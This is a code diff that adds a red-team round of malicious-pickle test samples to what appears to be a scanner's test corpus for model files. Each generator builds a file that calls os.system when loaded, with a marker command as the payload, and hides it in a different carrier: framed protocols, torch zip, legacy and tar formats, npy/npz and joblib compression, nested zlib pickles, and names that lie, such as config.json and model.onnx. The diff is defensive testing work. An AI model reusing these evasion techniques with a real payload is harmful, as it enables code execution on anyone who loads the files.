@@ -564,6 +564,89 @@ def pickle_named_safetensors(folder: Path) -> Path:
     return _write(folder, "model.safetensors", proto(call(g("os", "system"), s(TOUCH))))
 
 
+# -- issue 16 red team, round 2: protocols, carriers and names that lie --------------------------
+
+
+def protocol5_framed_with_out_of_band_buffer(folder: Path) -> Path:
+    """Protocol 5: a FRAME around the call, then NEXT_BUFFER (which pickle.load without buffers
+    refuses, after the call has run)."""
+    body = sg("os", "system") + s(TOUCH) + b"\x85R0" + b"\x97."
+    frame = b"\x95" + struct.pack("<Q", len(body)) + body
+    return _write(folder, "framed.pkl", b"\x80\x05" + frame)
+
+
+def protocol1_binput_binget_call(folder: Path) -> Path:
+    """Protocol 1 (no PROTO opcode, binary memo ops): the callable stored and fetched back."""
+    data = g("os", "system") + b"q\x01" + b"0" + b"h\x01" + b"(" + s(TOUCH) + b"tR."
+    return _write(folder, "memo_p1.pkl", data)
+
+
+def torch_zip_protocol0_data_pkl(folder: Path) -> Path:
+    """torch.load's data.pkl as pure-ASCII protocol 0 (no PROTO header, no binary opcode)."""
+    return _write(folder, "ascii.pt", _torch_zip(_torch_members("archive", _p0_system_call())))
+
+
+def legacy_torch_payload_in_storage_keys(folder: Path) -> Path:
+    """Legacy torch.save: the fifth pickle (the storage keys) carries the call."""
+    main = proto(b"}", 2)
+    return _write(folder, "keys.pt", _legacy_header() + main + _payload_pickle())
+
+
+def legacy_torch_tar(folder: Path) -> Path:
+    """The oldest torch.save format, a tar: torch.load unpickles its `storages` member first."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tf:
+        for name, data in (("storages", _payload_pickle()), ("tensors", b""), ("pickle", b"")):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    return _write(folder, "old_tar.pt", buffer.getvalue())
+
+
+def npy_version3_object_array(folder: Path) -> Path:
+    """.npy format 3.0: a 4-byte header length and a UTF-8 header, then the object pickle."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (63 - (12 + len(header)) % 64) + "\n"
+    data = b"\x93NUMPY\x03\x00" + struct.pack("<I", len(header)) + header.encode()
+    return _write(folder, "v3.npy", data + _payload_pickle())
+
+
+def npz_deflated_object_array(folder: Path) -> Path:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("embeddings.npy", _npy_object(_payload_pickle()))
+    return _write(folder, "compressed.npz", buffer.getvalue())
+
+
+def joblib_zlib_compressed(folder: Path) -> Path:
+    """joblib.load recognises a bare zlib stream (joblib's `zlib` compressor) by its first byte."""
+    return _write(folder, "model.joblib", zlib.compress(_payload_pickle()))
+
+
+def nested_pickle_zlib_in_bytes(folder: Path) -> Path:
+    """The outer pickle only unpickles bytes it decompresses at load time."""
+    inner = zlib.compress(_payload_pickle())
+    outer = call(g("pickle", "loads"), call(g("zlib", "decompress"), b(inner)))
+    return _write(folder, "nested.pkl", proto(outer))
+
+
+def pickle_named_config_json(folder: Path) -> Path:
+    """Protocol 0 behind a JSON name: a dict whose value is the call; starts like `(dp0`."""
+    data = b"(dp0\nVkey\np1\n" + b"cos\nsystem\np2\n(" + _p0_string(TOUCH) + b"tp3\nRp4\ns."
+    return _write(folder, "config.json", data)
+
+
+def torch_zip_named_onnx(folder: Path) -> Path:
+    """A torch zip under a safe format's name: torch.load does not look at this one (it hands
+    `.safetensors` names to safetensors, so that lie would not run)."""
+    return _write(folder, "model.onnx", _torch_zip(_torch_members("model", _payload_pickle())))
+
+
+def pickle_named_tokenizer_model(folder: Path) -> Path:
+    """A pickle where sentencepiece's protobuf belongs (protobuf is inert only if it parses)."""
+    return _write(folder, "tokenizer.model", proto(call(sg("os", "system"), s(TOUCH)), 3))
+
+
 MALICIOUS: dict[str, Sample] = {
     f.__name__: f
     for f in (
@@ -627,6 +710,18 @@ MALICIOUS: dict[str, Sample] = {
         binint_first_short_unicode_as_bin,
         inst_after_mark_as_vocab,
         pickle_named_safetensors,
+        protocol5_framed_with_out_of_band_buffer,
+        protocol1_binput_binget_call,
+        torch_zip_protocol0_data_pkl,
+        legacy_torch_payload_in_storage_keys,
+        legacy_torch_tar,
+        npy_version3_object_array,
+        npz_deflated_object_array,
+        joblib_zlib_compressed,
+        nested_pickle_zlib_in_bytes,
+        pickle_named_config_json,
+        torch_zip_named_onnx,
+        pickle_named_tokenizer_model,
     )
 }
 
@@ -639,6 +734,10 @@ _TORCH = {
     "cve_2025_1945_zip_flag_bits",
     "cve_2025_10156_zip_bad_crc",
     "duplicate_data_pkl",
+    "torch_zip_protocol0_data_pkl",
+    "legacy_torch_payload_in_storage_keys",
+    "legacy_torch_tar",
+    "torch_zip_named_onnx",
 }
 _OTHER = {
     "payload_in_second_pickle": "pickle-all",
@@ -657,6 +756,9 @@ _OTHER = {
     "joblib_wrapper_fields_from_init": "joblib",
     "joblib_legacy_wrapper_loads_named_file": "joblib",
     "npy_descr_object_spelled_out": "numpy",
+    "npy_version3_object_array": "numpy",
+    "npz_deflated_object_array": "numpy",
+    "joblib_zlib_compressed": "joblib",
 }
 #: how a victim loads each malicious sample (see load_code)
 LOADER: dict[str, str] = {
